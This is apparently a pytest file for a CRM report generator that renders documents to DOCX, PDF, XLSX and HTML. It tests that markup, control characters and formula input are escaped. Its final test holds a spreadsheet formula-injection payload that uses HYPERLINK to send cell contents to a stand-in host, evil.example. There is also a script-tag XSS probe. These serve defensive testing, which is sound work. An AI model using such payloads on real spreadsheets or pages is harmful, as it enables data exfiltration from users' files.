"""The document machinery: one neutral document, rendered to DOCX, PDF, XLSX and HTML, read back."""

from __future__ import annotations

from pathlib import Path

import pytest
from docx import Document as read_docx
from openpyxl import load_workbook
from pypdf import PdfReader

from crmflow.deliverables.document import (
    BulletList,
    Code,
    Document,
    Image,
    PageBreak,
    Paragraph,
    Section,
    Sheet,
    Table,
    Workbook,
    plain_text,
)
from crmflow.deliverables.docx import TABLE_STYLE, write_docx
from crmflow.deliverables.html import PackFile, render_index
from crmflow.deliverables.pdf import typst_source, typst_string, write_pdf
from crmflow.deliverables.xlsx import RACI_COLOURS, sheet_title, write_xlsx
from crmflow.errors import PackError

#: CRM text that is markup in Typst, HTML or Excel: it must come out exactly as written.
NASTY = 'Сделка *VIP* #set page(width: 1pt) $x$ [a] <b>&</b> @ref \\ "кавычки" _x_ `c` =SUM(A1)'


@pytest.fixture
def png(tmp_path: Path) -> Path:
    import typst

    path = tmp_path / "pic.png"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><text x="2" y="15">Ёж</text></svg>'
    typst.compile(
        b'#set page(width: auto, height: auto, margin: 0pt)\n#image(bytes(sys.inputs.svg), format: "svg")\n',
        output=str(path),
        format="png",
        sys_inputs={"svg": svg},
    )
    return path


@pytest.fixture
def document(png: Path) -> Document:
    return Document(
        title="Отчёт",
        subtitle=NASTY,
        lang="ru",
        toc_title="Содержание",
        sections=(
            Section(
                title="Матрица RACI",
                blocks=(
                    Paragraph(NASTY),
                    BulletList(("первый", NASTY)),
                    Table(header=("Задача", "Роль"), rows=(("Звонок", "R"), (NASTY, "A")), caption="Таблица 1"),
                    Image(png=png, caption="Схема"),
                    PageBreak(),
                    Code("# language: ru\nФункция: тест"),
                    Section(title="Подраздел", blocks=(Paragraph("второй уровень"),)),
                ),
            ),
            Section(title="Политика SLA", blocks=(Paragraph("10 минут"),)),
        ),
    )


def test_table_rows_must_match_the_header() -> None:
    with pytest.raises(PackError, match="row 1 has 1 cells, the header has 2"):
        Table(header=("a", "b"), rows=(("x",),))


def test_typst_string_escapes_everything() -> None:
    assert typst_string('a"b\\c\nd') == '"a\\"b\\\\c\\nd"'
    assert typst_string("\x01") == '"\\u{1}"'


def test_pdf_prints_crm_text_verbatim_with_cyrillic(document: Document, tmp_path: Path) -> None:
    path = write_pdf(document, tmp_path / "r.pdf")
    pages = PdfReader(str(path)).pages
    body = " ".join(p.extract_text() for p in pages)
    assert "Матрица RACI" in body and "Политика SLA" in body and "Содержание" in body
    assert "Сделка *VIP* #set page(width: 1pt) $x$ [a]" in body  # not interpreted as Typst markup
    assert "Функция: тест" in body
    assert PdfReader(str(path)).trailer["/Root"]["/Lang"] == "ru"


def test_pdf_is_deterministic(document: Document, tmp_path: Path) -> None:
    a = write_pdf(document, tmp_path / "a.pdf").read_bytes()
    b = write_pdf(document, tmp_path / "b.pdf").read_bytes()
    assert a == b


def test_pdf_refuses_images_outside_the_root(document: Document, tmp_path: Path) -> None:
    with pytest.raises(PackError, match="outside the pack folder"):
        typst_source(document, root=tmp_path / "elsewhere")


def test_docx_has_headings_toc_tables_and_images(document: Document, tmp_path: Path) -> None:
    doc = read_docx(str(write_docx(document, tmp_path / "r.docx")))
    headings = [(p.style.name, p.text) for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert ("Heading 1", "Матрица RACI") in headings and ("Heading 2", "Подраздел") in headings
    xml = doc.element.xml
    assert 'TOC \\o "1-3"' in xml
    assert len(doc.tables) == 1 and doc.tables[0].style.name == TABLE_STYLE
    assert [c.text for c in doc.tables[0].rows[2].cells] == [NASTY, "A"]
    assert len(doc.inline_shapes) == 1
    assert doc.core_properties.language == "ru-RU"
    assert NASTY in plain_text(document)


def test_xlsx_is_formatted(tmp_path: Path) -> None:
    sheet = Sheet(
        name="RACI: роли/задачи [1]",
        header=("Задача", "Оператор", "Статус"),
        rows=(("Звонок", "R", "новый"), ("=SUM(A1)", "A", "готово")),
        raci=("Оператор",),
        choices={"Статус": ("новый", "готово")},
    )
    path = write_xlsx(Workbook(name="t", sheets=(sheet,)), tmp_path / "t.xlsx")
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    assert ws.title == "RACI_ роли_задачи _1_"
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref == "A1:C3"
    assert ws["A1"].font.bold and ws["A3"].value == "'=SUM(A1)"  # never a formula
    assert ws.data_validations.dataValidation[0].formula1 == '"новый,готово"'
    rules = [r for rng in ws.conditional_formatting for r in rng.rules]
    assert len(rules) == len(RACI_COLOURS)
    assert rules[0].formula == ['ISNUMBER(SEARCH("A",B2))'] and rules[0].stopIfTrue
    assert ws.column_dimensions["A"].width >= 10


def test_sheet_titles_are_unique_and_short() -> None:
    taken: set[str] = set()
    a = sheet_title("x" * 40, taken)
    b = sheet_title("x" * 40, taken)
    assert len(a) == 31 and len(b) <= 31 and a != b


def test_index_escapes_crm_text() -> None:
    html = render_index(
        title="<script>alert(1)</script>", summary=["a & b"], files=[PackFile("documents", "<b>x</b>", "report.docx")], lang="ru"
    )
    assert "<script>alert" not in html and "&lt;script&gt;" in html and "a &amp; b" in html
    assert 'href="report.docx"' in html and "http" not in html.split("<body>")[1].split("<footer>")[0]


def test_control_characters_in_crm_text_do_not_break_docx_or_xlsx(tmp_path: Path) -> None:
    # Excel exports carry \x0b for line breaks; python-docx and openpyxl refused the whole pack on them.
    bad = "Сделка\x0bVIP\x00\x1f"
    doc = Document(
        title=bad,
        subtitle="s",
        lang="ru",
        sections=(Section(title=bad, blocks=(Paragraph(bad), BulletList((bad,)), Table(header=("a",), rows=((bad,),)))),),
    )
    docx_path = write_docx(doc, tmp_path / "r.docx")
    texts = [p.text for p in read_docx(str(docx_path)).paragraphs]
    assert "Сделка VIP  " in texts
    book = Workbook(name="w", sheets=(Sheet(name="s", header=("a",), rows=((bad,), ("=1+1",))),))
    ws = load_workbook(write_xlsx(book, tmp_path / "w.xlsx")).active
    assert ws["A2"].value == "Сделка VIP  " and ws["A3"].data_type == "s"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_xlsx_neutralises_every_formula_start_like_the_csv_writer(tmp_path: Path, start: str) -> None:
    from crmflow.deliverables.backlog import FORMULA_STARTS, csv_cell

    hostile = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    book = Workbook(name="w", sheets=(Sheet(name="s", header=("a", "b"), rows=((hostile, "-"),)),))
    ws = load_workbook(write_xlsx(book, tmp_path / "w.xlsx")).active
    assert start in FORMULA_STARTS
    assert ws["A2"].data_type == "s" and ws["A2"].value == csv_cell(hostile) == "'" + hostile
    assert ws["B2"].value == "-"  # a lone character cannot be a formula
